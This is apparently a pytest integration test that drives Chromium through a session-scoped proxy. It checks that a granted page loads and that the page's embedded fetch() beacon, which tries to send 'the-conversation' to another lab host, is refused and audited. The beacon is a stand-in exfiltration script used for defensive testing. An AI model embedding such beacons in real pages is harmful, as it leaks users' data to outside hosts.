"""The README's platform sequence with real Chromium (Debian's, driven by Playwright's Python client): a
context whose proxy carries a session's credentials reads the granted URL, and a script on the page that
calls fetch() towards another host the policy allows is refused by the session, not by the policy."""

from __future__ import annotations

import os
import time

import pytest
from labnet import PUBLIC_IP
from proxyproc import ProxyProcess
from session_client import api, create, token_file

CHROMIUM = "/usr/lib/chromium/chromium"
pytestmark = [pytest.mark.integration,
              pytest.mark.skipif(not os.path.exists(CHROMIUM),
                                 reason="needs Debian's chromium (ci/install.sh --browser)")]


@pytest.fixture
def proxy(lab, tmp_path):
    policy = tmp_path / "policy.yaml"
    policy.write_text(lab.policy_text("session: required\n"))
    process = ProxyProcess(["--policy", str(policy), "--admin-token-file", str(token_file(tmp_path))],
                           tmp_path / "audit.jsonl")
    yield process
    process.stop()
    assert not [e for e in process.outbound() if e["host"] != PUBLIC_IP], process.outbound()


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_context_with_session_credentials_reads_its_link_and_nothing_else(lab, proxy, scheme):
    from playwright.sync_api import sync_playwright

    upstream = lab.public if scheme == "http" else lab.public_tls
    beacon = f"{scheme}://other.lab.example:{upstream.port}/beacon?q=the-conversation"
    page_path = upstream.serve(f"/article-{scheme}", "<html><head><title>granted page</title></head><body>"
                                                     f"<script>fetch('{beacon}').catch(() => {{}});</script>"
                                                     "</body></html>")
    link = f"{scheme}://public.lab.example:{upstream.port}{page_path}"
    session = create(proxy.admin_port, {"urls": [link]}, ttl=120)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"] if os.geteuid() == 0 else [])
        try:
            context = browser.new_context(proxy={"server": f"http://{proxy.host}:{proxy.port}", **session["proxy"]},
                                          ignore_https_errors=True)
            page = context.new_page()
            page.goto(link)
            assert page.title() == "granted page"
            deadline = time.monotonic() + 10
            while time.monotonic() < deadline and not [
                    r for r in proxy.decisions() if r["host"] == "other.lab.example" and r["verdict"] == "refuse"]:
                time.sleep(0.1)
            context.close()
        finally:
            browser.close()
    assert api(proxy.admin_port, "DELETE", f"/v1/sessions/{session['id']}")[0] == 204
    refused = [r for r in proxy.decisions() if r["host"] == "other.lab.example"]
    assert refused and {r["rule"] for r in refused if r["verdict"] == "refuse"} == {"session:not-granted"}
    assert all(r["session"] == session["id"] for r in refused)
    assert not [r for r in proxy.decisions() if r["host"] == "other.lab.example" and r["verdict"] == "allow"]
    assert not [path for _, path, _ in upstream.requests if path.startswith("/beacon")]
    granted = [r for r in proxy.decisions() if r["host"] == "public.lab.example" and r["verdict"] == "allow"]
    assert granted and all(r["session"] == session["id"] for r in granted)
